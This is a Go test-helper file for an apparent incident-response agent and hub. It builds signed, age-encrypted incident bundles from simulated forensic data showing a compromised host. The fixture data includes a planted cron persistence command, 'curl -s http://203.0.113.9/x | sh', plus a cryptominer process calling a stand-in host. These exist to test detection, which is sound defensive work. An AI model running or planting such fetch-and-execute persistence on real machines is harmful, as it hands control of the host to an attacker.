package hubtest

import (
	"archive/tar"
	"bytes"
	"crypto/ed25519"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"sort"
	"time"

	"filippo.io/age"
	"github.com/vigie-cyber/vigie/protocol"
)

// Incident bundles as the agent makes them (agent/incident.Build), built
// here from the protocol alone so that hub tests need not import the agent.

// IncidentFiles are collector outputs in the agent's shape, with a planted
// persistence: a cron entry and a systemd unit changed two days before
// declared (recent), an old ssh unit, a recent log event.
func IncidentFiles(declared time.Time) map[string][]byte {
	recent, old := declared.Add(-48*time.Hour), declared.AddDate(0, -6, 0)
	out := func(name string, data any) []byte {
		b, _ := json.MarshalIndent(map[string]any{"collector": name, "status": "ok", "started_at": declared, "duration_ms": 3, "data": data}, "", " ")
		return b
	}
	return map[string][]byte{
		"processes.json": out("processes", []map[string]any{
			{"pid": 1, "name": "systemd", "exe": "/usr/lib/systemd/systemd", "cmdline": "/sbin/init"},
			{"pid": 4242, "name": "miner", "exe": "/tmp/.x/miner", "cmdline": "/tmp/.x/miner --pool 203.0.113.9:3333", "deleted": true},
		}),
		"network.json": out("network", map[string]any{
			"connections": []map[string]any{{"proto": "tcp", "local": "192.0.2.10:51234", "remote": "203.0.113.9:3333", "state": "ESTABLISHED", "pid": 4242}},
			"listeners":   []map[string]any{{"proto": "tcp", "address": "0.0.0.0", "port": 22, "process": "sshd"}},
		}),
		"persistence.json": out("persistence", map[string]any{"recent": 2, "entries": []map[string]any{
			{"kind": "systemd", "location": "/etc/systemd/system/ssh.service", "command": "/usr/sbin/sshd", "changed": old, "recent": false},
			{"kind": "cron", "location": "/etc/cron.d/sysupdate", "command": "curl -s http://203.0.113.9/x | sh", "changed": recent, "recent": true},
			{"kind": "systemd", "location": "/etc/systemd/system/dbus-helper.service", "command": "/tmp/.x/miner", "changed": recent, "recent": true},
		}}),
		"events.json": out("events", map[string]any{"read": []string{"journal"}, "events": []map[string]any{
			{"source": "journal", "time": recent, "unit": "sshd", "message": "Accepted password for admin from 203.0.113.9", "recent": true},
		}}),
		"accounts.json": out("accounts", map[string]any{"accounts": []map[string]any{{"name": "admin", "login": true}}}),
	}
}

// IncidentBundle builds a signed manifest and its archive, encrypted to
// recipient (nil: plain), as the agent does.
func IncidentBundle(key ed25519.PrivateKey, agentID string, recipient *age.X25519Recipient, files map[string][]byte, declared time.Time, answers protocol.IncidentAnswers) (manifest, archive []byte, err error) {
	var tb bytes.Buffer
	tw := tar.NewWriter(&tb)
	m := protocol.IncidentManifest{Version: protocol.IncidentVersion, AgentID: agentID, Hostname: "mairie-pc1", OS: "linux", DeclaredAt: declared, Answers: answers}
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		data := files[n]
		if err := tw.WriteHeader(&tar.Header{Name: n, Mode: 0o600, Size: int64(len(data)), ModTime: declared, Typeflag: tar.TypeReg}); err != nil {
			return nil, nil, err
		}
		tw.Write(data)
		sum := sha256.Sum256(data)
		m.Files = append(m.Files, protocol.IncidentFile{Name: n, Size: int64(len(data)), SHA256: hex.EncodeToString(sum[:])})
		m.Collectors = append(m.Collectors, protocol.IncidentCollector{Name: n, Status: "ok"})
	}
	if err := tw.Close(); err != nil {
		return nil, nil, err
	}
	archive = tb.Bytes()
	if recipient != nil {
		var enc bytes.Buffer
		w, err := age.Encrypt(&enc, recipient)
		if err != nil {
			return nil, nil, err
		}
		w.Write(archive)
		if err := w.Close(); err != nil {
			return nil, nil, err
		}
		archive = enc.Bytes()
		m.Encrypted, m.Recipient = true, recipient.String()
	}
	sum := sha256.Sum256(archive)
	m.ArchiveSize, m.ArchiveSHA256 = int64(len(archive)), hex.EncodeToString(sum[:])
	payload, err := json.Marshal(m)
	if err != nil {
		return nil, nil, err
	}
	manifest, err = json.Marshal(protocol.Sign(protocol.IncidentPayloadType, payload, key))
	return manifest, archive, err
}

// BigIncident writes to w an archive encrypted to recipient of about size
// bytes (one incompressible file: the hub's memory test) and returns its
// signed manifest; the archive is never held whole in memory.
func BigIncident(w io.Writer, key ed25519.PrivateKey, agentID string, recipient *age.X25519Recipient, size int64, declared time.Time) ([]byte, error) {
	h := sha256.New()
	counted := &countWriter{w: io.MultiWriter(w, h)}
	enc, err := age.Encrypt(counted, recipient)
	if err != nil {
		return nil, err
	}
	inner := sha256.New()
	tw := tar.NewWriter(enc)
	if err := tw.WriteHeader(&tar.Header{Name: "recent-executables.json", Mode: 0o600, Size: size, ModTime: declared, Typeflag: tar.TypeReg}); err != nil {
		return nil, err
	}
	// Deterministic, incompressible bytes: SHA-256 in counter mode.
	var block [32]byte
	for n, i := int64(0), uint64(0); n < size; i++ {
		block = sha256.Sum256(fmt.Appendf(block[:0], "%d", i))
		k := min(int64(len(block)), size-n)
		tw.Write(block[:k])
		inner.Write(block[:k])
		n += k
	}
	if err := tw.Close(); err != nil {
		return nil, err
	}
	if err := enc.Close(); err != nil {
		return nil, err
	}
	m := protocol.IncidentManifest{Version: protocol.IncidentVersion, AgentID: agentID, Hostname: "big", OS: "linux", DeclaredAt: declared,
		Answers: protocol.IncidentAnswers{Kind: protocol.IncidentRansomware}, Encrypted: true, Recipient: recipient.String(),
		Files:       []protocol.IncidentFile{{Name: "recent-executables.json", Size: size, SHA256: hex.EncodeToString(inner.Sum(nil))}},
		ArchiveSize: counted.n, ArchiveSHA256: hex.EncodeToString(h.Sum(nil))}
	payload, err := json.Marshal(m)
	if err != nil {
		return nil, err
	}
	return json.Marshal(protocol.Sign(protocol.IncidentPayloadType, payload, key))
}

type countWriter struct {
	w io.Writer
	n int64
}

func (c *countWriter) Write(p []byte) (int, error) {
	n, err := c.w.Write(p)
	c.n += int64(n)
	return n, err
}
